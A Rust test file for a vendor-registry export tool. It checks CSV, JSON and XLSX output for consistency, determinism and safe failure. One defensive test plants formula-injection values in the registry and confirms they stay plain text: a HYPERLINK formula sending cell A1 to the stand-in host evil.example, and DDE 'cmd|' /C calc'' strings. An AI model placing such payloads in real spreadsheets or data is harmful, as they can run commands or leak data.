//! `vetted export`: every table in every format on the example registry,
//! read back by independent readers (tests/python/check_export.py: Python's
//! `csv` and `json` modules and `openpyxl`) and compared with
//! `check --format json` and the registry's own files; registry text that
//! starts like a formula stays text; the same registry and date give the
//! same bytes; a registry that breaks the data contract gets no export.

mod common;

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::process::Command;

use common::{registry, vetted};
use vetted::export::{Cell, Table};

const TODAY: &str = "2026-11-29";
const TABLES: [&str; 4] = ["vendors", "artifacts", "findings", "products"];
const FORMATS: [&str; 3] = ["csv", "json", "xlsx"];

fn example() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// `export --what table --format format --out out`, run in `dir`.
fn export(dir: &Path, extra: &[&str], table: &str, format: &str, out: &Path) {
    let mut args = vec![
        "export",
        "--today",
        TODAY,
        "--what",
        table,
        "--format",
        format,
        "--out",
        out.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    let run = vetted(dir, &args);
    assert_eq!(
        (run.code, run.stdout.as_str()),
        (0, ""),
        "{table} {format}: {}",
        run.stderr
    );
}

/// Every table in every format into `out` (`vendors.csv`, …).
fn export_all(dir: &Path, extra: &[&str], out: &Path) {
    for table in TABLES {
        for format in FORMATS {
            export(
                dir,
                extra,
                table,
                format,
                &out.join(format!("{table}.{format}")),
            );
        }
    }
}

/// Run tests/python/check_export.py; its JSON summary, or its error.
fn check_export(args: &[&str]) -> serde_json::Value {
    let out = Command::new(common::test_python())
        .arg(example().join("tests/python/check_export.py"))
        .args(args)
        .output()
        .expect("run check_export.py");
    assert!(
        out.status.success(),
        "check_export.py {args:?}:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("a JSON summary")
}

#[test]
fn every_table_agrees_across_formats_with_check_and_with_the_registry() {
    let tmp = tempfile::tempdir().unwrap();
    export_all(example(), &[], tmp.path());
    let check = vetted(example(), &["check", "--today", TODAY, "--format", "json"]);
    let check_file = tmp.path().join("check.json");
    fs::write(&check_file, &check.stdout).unwrap();
    let summary = check_export(&[
        "agree",
        check_file.to_str().unwrap(),
        example().join("registry").to_str().unwrap(),
        tmp.path().to_str().unwrap(),
    ]);
    let report: serde_json::Value = serde_json::from_str(&check.stdout).unwrap();
    let vendors = report["vendors"].as_array().unwrap();
    assert_eq!(summary["vendors"], vendors.len());
    assert_eq!(vendors.len(), 15);
    // A known vendor, as `check` decides it (the script compared every one).
    let rosterly = vendors
        .iter()
        .find(|v| v["slug"] == "rosterly-scheduling")
        .unwrap();
    assert_eq!(
        summary["decisions"]["rosterly-scheduling"],
        rosterly["decision"]["value"]
    );
    for table in ["artifacts", "findings", "products"] {
        assert!(summary[table].as_u64().unwrap() > 0, "{table}: {summary}");
    }
}

#[test]
fn csv_and_json_print_to_standard_output_as_they_are_written_to_a_file() {
    let tmp = tempfile::tempdir().unwrap();
    for format in ["csv", "json"] {
        let file = tmp.path().join(format!("vendors.{format}"));
        export(example(), &[], "vendors", format, &file);
        let printed = vetted(example(), &["export", "--today", TODAY, "--format", format]);
        assert_eq!(printed.code, 0, "{}", printed.stderr);
        assert_eq!(
            printed.stdout,
            fs::read_to_string(&file).unwrap(),
            "{format}"
        );
    }
    let csv = fs::read_to_string(tmp.path().join("vendors.csv")).unwrap();
    assert!(csv.starts_with("slug,name,lifecycle,category,owner,tier,"));
    assert!(csv.ends_with("\r\n"));
}

#[test]
fn the_same_registry_and_date_give_the_same_bytes() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    export_all(example(), &["--jobs", "1"], a.path());
    // A second later and on more threads: nothing depends on the clock or the order of work.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    export_all(example(), &["--jobs", "4"], b.path());
    for table in TABLES {
        for format in FORMATS {
            let name = format!("{table}.{format}");
            assert!(
                fs::read(a.path().join(&name)).unwrap() == fs::read(b.path().join(&name)).unwrap(),
                "{name} differs between runs"
            );
        }
    }
}

/// Registry text that starts like a spreadsheet formula, in each table.
const HOSTILE: [(&str, &str, &str, &str); 5] = [
    (
        "vendors/acme-infusion/vendor.toml",
        r#"name = "Acme Infusion Systems""#,
        r#"name = '=HYPERLINK("http://evil.example/?x="&A1,"Acme")'"#,
        "vendors",
    ),
    (
        "vendors/acme-infusion/vendor.toml",
        r#"owner = "Clinical Engineering""#,
        r#"owner = "@SUM(1+1)*cmd|' /C calc'!A0""#,
        "vendors",
    ),
    (
        "vendors/acme-infusion/vendor.toml",
        "end_of_support = 2031-12-31",
        "end_of_support = 2031-12-31\ndescription = \"+cmd|' /C calc'!A0\"",
        "products",
    ),
    (
        "vendors/acme-infusion/artifacts.toml",
        r#"title = "Business associate agreement""#,
        "title = \"\\t=1+1\"",
        "artifacts",
    ),
    (
        "vendors/cloudsched/vendor.toml",
        r#"owner = "Nursing Administration""#,
        r#"owner = "-2+3""#,
        "vendors",
    ),
];

#[test]
fn registry_text_that_looks_like_a_formula_stays_text() {
    let tmp = registry("minimal", None);
    let reg = tmp.path().join("reg");
    for (file, find, replace, _) in HOSTILE {
        let path = reg.join(file);
        let text = fs::read_to_string(&path).unwrap();
        assert!(text.contains(find), "{file} lacks {find}");
        fs::write(&path, text.replacen(find, replace, 1)).unwrap();
    }
    let findings = "[[finding]]\nid = \"F-1\"\ntitle = \"=cmd|' /C calc'!A0\"\n\
                    severity = \"high\"\nopened = 2026-01-10\ndue = 2027-01-10\nstatus = \"open\"\n";
    fs::write(reg.join("vendors/acme-infusion/findings.toml"), findings).unwrap();
    let out = tmp.path().join("out");
    fs::create_dir(&out).unwrap();
    export_all(tmp.path(), &["--registry", "reg"], &out);
    let texts = |table: &str| -> Vec<String> {
        let mut list: Vec<String> = HOSTILE
            .iter()
            .filter(|h| h.3 == table)
            .map(|h| {
                let value = h.2.lines().last().unwrap().split_once(" = ").unwrap().1;
                // The TOML value as text: literal ('…') as is, basic ("…") unescaped.
                let inner = &value[1..value.len() - 1];
                inner.replace("\\t", "\t")
            })
            .collect();
        if table == "findings" {
            list.push("=cmd|' /C calc'!A0".into());
        }
        list
    };
    for table in TABLES {
        let expected = texts(table);
        assert!(!expected.is_empty(), "{table}");
        let mut args = vec!["hostile", out.to_str().unwrap(), table];
        args.extend(expected.iter().map(String::as_str));
        let summary = check_export(&args);
        assert_eq!(summary["checked"], expected.len(), "{table}");
    }
}

#[test]
fn a_registry_that_breaks_the_data_contract_gets_no_export() {
    let tmp = common::contract_broken_registry();
    fs::write(tmp.path().join("vendors.xlsx"), "previous").unwrap();
    let run = vetted(
        tmp.path(),
        &[
            "export",
            "--registry",
            "reg",
            "--today",
            TODAY,
            "--format",
            "xlsx",
            "--out",
            "vendors.xlsx",
        ],
    );
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("E0105"), "{}", run.stderr);
    assert!(
        run.stderr
            .contains("nothing was written and vendors.xlsx is unchanged"),
        "{}",
        run.stderr
    );
    assert_eq!(
        fs::read_to_string(tmp.path().join("vendors.xlsx")).unwrap(),
        "previous"
    );
    let printed = vetted(
        tmp.path(),
        &[
            "export",
            "--registry",
            "reg",
            "--today",
            TODAY,
            "--format",
            "csv",
        ],
    );
    assert_eq!((printed.code, printed.stdout.as_str()), (1, ""));
}

#[test]
fn a_workbook_needs_a_file_and_the_file_is_written_whole() {
    let run = vetted(example(), &["export", "--today", TODAY, "--format", "xlsx"]);
    assert_eq!((run.code, run.stdout.as_str()), (2, ""));
    assert!(
        run.stderr.contains("an xlsx export needs --out FILE.xlsx"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("= help:"), "{}", run.stderr);
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("inventory.xlsx");
    fs::write(&file, "previous").unwrap();
    export(example(), &[], "vendors", "xlsx", &file);
    let bytes = fs::read(&file).unwrap();
    assert!(bytes.starts_with(b"PK\x03\x04"), "a zip archive");
    let names: Vec<String> = fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(
        names,
        ["inventory.xlsx"],
        "no temporary file left beside it"
    );
    // Permissions of any new file under the umask, not a temporary file's
    // 0600: an export is meant to be shared.
    let shared = tmp.path().join("shared.csv");
    let status = Command::new("sh")
        .arg("-c")
        .arg("umask 022 && exec \"$0\" export --format csv --today 2026-11-29 --out \"$1\"")
        .arg(env!("CARGO_BIN_EXE_vetted"))
        .arg(&shared)
        .current_dir(example())
        .status()
        .unwrap();
    assert!(status.success());
    use std::os::unix::fs::PermissionsExt as _;
    let mode = fs::metadata(&shared).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o644, "{mode:o}");
}

/// The example's tables and the site's view model, for the same date.
fn tables_and_site() -> (Vec<vetted::export::Sheet>, vetted::render::ViewModel) {
    let today = TODAY.parse().unwrap();
    let checked = vetted::load_and_validate(&vetted::RegistryOptions {
        registry: example().join("registry"),
        today,
    })
    .unwrap();
    let registry = checked.registry.expect("the example registry validates");
    let assessment = vetted::assess::assess(&registry, today);
    let sheets = [Table::Vendors, Table::Artifacts, Table::Findings]
        .into_iter()
        .map(|t| vetted::export::sheet(&registry, &assessment, t))
        .collect();
    let site = vetted::render::view_model(&registry, &assessment, None).unwrap();
    (sheets, site)
}

/// Each row of `sheet` as {column: cell as JSON text}.
fn rows(sheet: &vetted::export::Sheet) -> Vec<BTreeMap<&'static str, serde_json::Value>> {
    let json = |c: &Cell| match c {
        Cell::Empty => serde_json::Value::Null,
        Cell::Text(s) => s.as_str().into(),
        Cell::Int(n) => (*n).into(),
        Cell::Bool(b) => (*b).into(),
        Cell::Date(d) => d.to_string().into(),
    };
    sheet
        .rows
        .iter()
        .map(|r| {
            sheet
                .columns
                .iter()
                .copied()
                .zip(r.iter().map(json))
                .collect()
        })
        .collect()
}

#[test]
fn the_tables_say_what_the_site_says() {
    let (sheets, site) = tables_and_site();
    let [vendors, artifacts, findings] = [0, 1, 2].map(|i| rows(&sheets[i]));
    let pages: Vec<&serde_json::Value> = site
        .pages
        .iter()
        .filter(|p| p.template == "vendor.html")
        .map(|p| &p.data)
        .collect();
    assert_eq!(pages.len(), vendors.len());
    for page in pages {
        let slug = page["slug"].as_str().unwrap();
        let row = vendors.iter().find(|r| r["slug"] == slug).unwrap();
        assert_eq!(row["decision"], page["decision"]["badge"]["key"], "{slug}");
        assert_eq!(row["status"], page["status"]["key"], "{slug}");
        assert_eq!(row["lifecycle"], page["lifecycle"]["key"], "{slug}");
        assert_eq!(row["next_review"], page["review"]["next_due"], "{slug}");
        assert_eq!(row["errors"], page["counts"]["errors"], "{slug}");
        assert_eq!(row["tier"], page["tier"]["level"], "{slug}");
        let mine = |t: &[BTreeMap<&'static str, serde_json::Value>]| -> Vec<_> {
            t.iter().filter(|r| r["vendor"] == slug).cloned().collect()
        };
        let shown = page["artifacts"].as_array().unwrap();
        let listed = mine(&artifacts);
        assert_eq!(listed.len(), shown.len(), "{slug}");
        for (r, a) in listed.iter().zip(shown) {
            assert_eq!(r["index"], a["index"], "{slug}");
            assert_eq!(r["status"], a["status"]["key"], "{slug}");
            assert_eq!(r["valid_until"], a["valid_until"], "{slug}");
            assert_eq!(r["days_left"], a["days_left"], "{slug}");
            assert_eq!(r["file_href"], a["file_href"], "{slug}");
        }
        let shown = page["findings"].as_array().unwrap();
        for a in shown {
            let r = mine(&findings)
                .into_iter()
                .find(|r| r["id"] == a["id"])
                .unwrap();
            assert_eq!(r["severity"], a["severity"]["key"], "{slug}");
            assert_eq!(r["state"], a["state"]["key"], "{slug}");
            assert_eq!(r["overdue"], a["overdue"], "{slug}");
            assert_eq!(r["due"], a["due"], "{slug}");
        }
    }
    // The earliest expiry is the vendor's first evidence event on the calendar
    // (its month pages come in order: calendar/month/YYYY-MM/).
    let pages: Vec<_> = site
        .pages
        .iter()
        .filter(|p| p.template == "calendar.html")
        .collect();
    let calendar = pages[0];
    let mut first: BTreeMap<String, String> = BTreeMap::new();
    for month in pages
        .iter()
        .flat_map(|p| p.data["months"].as_array().unwrap())
    {
        for e in month["events"].as_array().unwrap() {
            if e["kind"] == "artifact" {
                let slug = e["vendor"]["slug"].as_str().unwrap().to_string();
                let date = e["date"].as_str().unwrap().to_string();
                first.entry(slug).or_insert(date);
            }
        }
    }
    let mut compared = 0;
    for row in vendors.iter().filter(|r| r["lifecycle"] != "offboarded") {
        let slug = row["slug"].as_str().unwrap();
        // The calendar page starts three months back; earlier events are counted, not listed.
        let Some(date) = first.get(slug) else {
            continue;
        };
        if row["earliest_expiry"].as_str() >= Some(calendar.data["from"].as_str().unwrap()) {
            assert_eq!(row["earliest_expiry"], date.as_str(), "{slug}");
            compared += 1;
        }
    }
    assert!(
        compared >= 5,
        "{compared} vendors compared with the calendar"
    );
}
